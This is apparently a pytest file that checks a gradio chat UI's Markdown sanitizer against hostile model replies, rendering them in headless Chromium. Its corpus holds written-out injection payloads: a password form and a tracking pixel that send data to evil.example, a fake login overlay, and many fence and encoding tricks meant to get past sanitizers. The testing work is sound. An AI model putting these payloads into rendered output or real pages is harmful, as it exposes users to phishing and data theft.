"""Hostile Markdown through the page's own renderer: the sanitizer is judged in the browser.

The page shows model text in gradio's Markdown and Chatbot components, which render it with
`marked` in the browser. A Python-side idea of what marked does is what let a fence closed by
`\\r` through; so here every reply of a corpus is passed through `views.shown` (the one filter the
page uses), put in the page's answer card and sections (built by the same functions the page
uses), rendered in headless Chromium, and the result is read back: nothing was fetched from
anywhere but 127.0.0.1, and no form, input, frame, remote image or overlay survived.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from urllib.parse import urlparse

import gradio as gr
import pytest
from llamaberry_ui import controls
from llamaberry_ui.app import serve
from llamaberry_ui.views import shown

from .test_ui_app import free_port
from .test_ui_browser import CHROMIUM, CHROMIUM_ARGS, pytestmark  # noqa: F401

EVIL = "http://evil.example"
# What an attacker wants on the page: a form whose autofocused input submits on Enter, a pixel
# that carries data out, and a full-screen overlay asking for a password.
FORM = f'<form action="{EVIL}/steal"><input name="pw" autofocus placeholder="Password"></form>'
PIXEL = f'<img src="{EVIL}/pixel.png?d=secret">'
OVERLAY = (
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">'
    "Session expired. Log in again</div>"
)
PAYLOAD = f"{FORM}\n\n{PIXEL}\n\n{OVERLAY}\n"


def crlf(text: str) -> str:
    return text.replace("\n", "\r\n")


CORPUS = {
    # Line endings that marked reads as line ends and a split on "\n" does not.
    "crlf fence": crlf(f"Code:\n\n```\nprint(1)\n```\n\n{PAYLOAD}"),
    "cr fence with tildes": f"~~~\rnote\r~~~\r{PAYLOAD.replace(chr(10), chr(13))}",
    "lf open, cr close": f"```\nx\n```\r{PAYLOAD}",
    "crlf close only": f"```js\nlet a = 1\n```\r\n\r\n{PAYLOAD}",
    "cr inside the info string": f"```py\rx\r```\n{PAYLOAD}",
    # Fences that almost close, or close in ways a line-based reader could miss.
    "tilde fence closed by backticks": f"~~~\n{PAYLOAD}```\nafter {PIXEL}",
    "longer fence closed by shorter": f"````\n```\n{PAYLOAD}````\n{PIXEL}",
    "fence with backticks in info": f"``` `x`\n{PAYLOAD}```",
    "indented fence": f"   ```\n{PAYLOAD}   ```\n{FORM}",
    "fence in a quote": f"> ```\n> x\n{PAYLOAD}> ```",
    "fence in a list": f"- a\n  ```\n  x\n{PAYLOAD}  ```",
    # gradio dedents the lines after the first and expands tabs before marked reads them.
    "dedented fence": f"```\n    x\n    ```\n    {FORM}\n    {PIXEL}",
    "closing fence with a tab": f"```\nx\n```\t\n{PAYLOAD}",
    "unclosed fence then more text": f"Look:\n```\n{PAYLOAD}",
    # HTML in the shapes a tokenizer treats differently.
    "tag across lines": f'<img\nsrc="{EVIL}/nl.png">\n<form\naction="{EVIL}/f"><input autofocus></form>',
    "upper case": f'<IMG SRC="{EVIL}/u.png"><FORM ACTION="{EVIL}/f"><INPUT AUTOFOCUS></FORM>',
    "harmless tag with style": '<b style="position:fixed;inset:0">Session expired</b>',
    "slash attributes": f'<p/style="position:fixed;inset:0">x</p><img/src="{EVIL}/s.png">',
    "comment hiding a tag": f"<!-- x -->{PIXEL}<!--\n-->{FORM}",
    "html block in a list": f"- item\n\n    {PIXEL}\n- {FORM}",
    "html in a table": f"| a | b |\n|---|---|\n| {PIXEL} | {FORM} |",
    "setext heading": f"{PIXEL}\n===\n{FORM}\n---",
    "autolinks": f"<{EVIL}/auto> <javascript:alert(1)> <mailto:x@evil.example>",
    "entities": "&lt;img src=x&gt; &#60;form&#62; &#x3C;input&#x3E;",
    # Images by every Markdown road.
    "inline image": f'![chart]({EVIL}/md.png "t")',
    "reference image": f"![logo][r]\n\n[r]: {EVIL}/ref.png",
    "image in a link": f"[![x]({EVIL}/in.png)]({EVIL}/)",
    "image in angle brackets": f"![a](<{EVIL}/angle.png>)",
    # Code spans that a renderer could end elsewhere.
    "unbalanced backticks": f"`{PIXEL}",
    "double backticks": f"`` ` {PIXEL} ` ``",
    "escaped backtick": f"\\`{FORM}`",
    # Separators that are not line ends to marked.
    "unicode line separator": f"```\u2028{PAYLOAD}",
    "form feed and vertical tab": f"```\f\n\v{PAYLOAD}```\f\n{PIXEL}",
    "nul": f"```\x00\n{PAYLOAD}",
    # Maths: gradio renders $...$ with KaTeX.
    "katex": f"$$\\href{{{EVIL}/k}}{{x}}$$ $\\includegraphics{{{EVIL}/k.png}}$",
}

# Texts the page puts one after another (a compare card's reasoning joins every call's text):
# each must be safe whatever the one before it left open.
COMPOSED = {
    "an open fence, then a text that closes it": ("```\nx", f"```\n{PAYLOAD}"),
    "an open tilde fence, then a closing one": ("~~~~\nx", f"~~~~\n{PAYLOAD}"),
}


def pages() -> list[tuple[str, str]]:
    out = [(name, shown(text)) for name, text in CORPUS.items()]
    out += [(name, f"{shown(a)}\n\n{shown(b)}") for name, (a, b) in COMPOSED.items()]
    return out


def page_app(rendered: list[tuple[str, str]]) -> gr.Blocks:
    """The page's answer card and sections, one of each per corpus entry, filled on load."""
    with gr.Blocks() as app:
        outputs: list[gr.components.Component] = []
        for number, _ in enumerate(rendered):
            answer, _summary = controls.answer_card(f"c{number}")
            outputs += [answer, controls.sections(f"c{number}", "Calls", "")]

        def fill() -> list[object]:
            values: list[object] = []
            for _name, text in rendered:
                values.append(gr.update(value=text, visible=True))
                values.append([{"role": "assistant", "content": text}])
            return values

        app.load(fill, outputs=outputs)
    return app


@pytest.fixture(scope="module")
def rendered_page() -> Iterator[tuple[object, list[str]]]:
    from playwright.sync_api import sync_playwright

    rendered = pages()
    app = page_app(rendered)
    port = free_port()
    serve(app, host="127.0.0.1", port=port, block=False, quiet=True)
    url = f"http://127.0.0.1:{port}/"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        context = browser.new_context()
        outside: list[str] = []

        def local_only(route) -> None:
            if urlparse(route.request.url).hostname == "127.0.0.1":
                route.continue_()
            else:
                outside.append(route.request.url)
                route.abort()

        context.route("**/*", local_only)
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.goto(url)
        last = len(rendered) - 1
        page.locator(f"#c{last}-answer").wait_for()
        page.locator(f"#c{last}-sections .message").first.wait_for()
        time.sleep(1.0)  # give any image, frame or stylesheet time to be asked for
        yield page, outside
        browser.close()
    app.close()


# What marked may make of model text, and what gradio adds to it (a code block's copy button).
ALLOWED = {
    "p", "br", "hr", "a", "em", "strong", "b", "i", "u", "s", "del", "ins", "sub", "sup",
    "mark", "small", "kbd", "code", "pre", "span", "div", "ul", "ol", "li", "blockquote",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
    "annotation", "math", "semantics", "mrow", "mi", "mo", "mn", "mtext", "msup", "msub",
    "mspace", "mstyle", "svg", "path", "button", "input",
}  # fmt: skip

ELEMENTS = """(selector) => {
  const out = [];
  for (const box of document.querySelectorAll(selector)) {
    for (const el of box.querySelectorAll('span.md *')) {
      const style = getComputedStyle(el);
      out.push({
        box: box.id,
        tag: el.tagName.toLowerCase(),
        type: el.getAttribute('type') || '',
        cls: el.className && el.className.baseVal === undefined ? el.className : '',
        position: style.position,
        style: el.getAttribute('style') || '',
        src: el.getAttribute('src') || el.getAttribute('href') || el.getAttribute('action') || '',
        html: el.outerHTML.slice(0, 100),
      });
    }
  }
  return out;
}"""


def test_the_corpus_renders_in_the_page(rendered_page):
    page, _ = rendered_page
    for number, (name, _text) in enumerate(pages()):
        assert page.locator(f"#c{number}-answer").is_visible(), name


def test_no_hostile_reply_makes_the_page_fetch_anything(rendered_page):
    page, outside = rendered_page
    assert outside == []
    remote = page.evaluate(
        '[...document.querySelectorAll(\'[src*="evil."], [action*="evil."],'
        ' [poster*="evil."], link[href*="evil."], form, iframe, object, embed\')]'
        ".map(e => e.outerHTML.slice(0, 100))"
    )
    assert remote == []


def test_no_form_input_or_overlay_survives_in_any_rendered_reply(rendered_page):
    page, _ = rendered_page
    names = dict(enumerate(name for name, _ in pages()))
    found = page.evaluate(ELEMENTS, "[id^=c][id$=-answer], [id^=c][id$=-sections]")
    assert found, "nothing was rendered"
    bad = []
    for el in found:
        number = int(el["box"][1:].split("-")[0])
        where = f"{names[number]} ({el['box']}): {el['html']}"
        if el["tag"] not in ALLOWED:
            bad.append(f"<{el['tag']}> in {where}")
        elif el["tag"] == "input" and el["type"] != "checkbox":
            bad.append(f"an input in {where}")  # marked's task lists are the only inputs
        elif el["tag"] == "button" and el["cls"] != "copy_code_button":
            bad.append(f"a button in {where}")
        elif el["position"] == "fixed" or "position" in el["style"]:
            bad.append(f"an overlay in {where}")
        elif "evil." in el["src"] and el["tag"] != "a":
            bad.append(f"a remote source in {where}")
    assert bad == [], "\n".join(bad)
    # Nothing a reply holds took the focus (an autofocused input submits on Enter).
    assert not page.evaluate(
        "!!(document.activeElement && document.activeElement.closest('span.md'))"
    )
    assert page.get_by_placeholder("Password").count() == 0
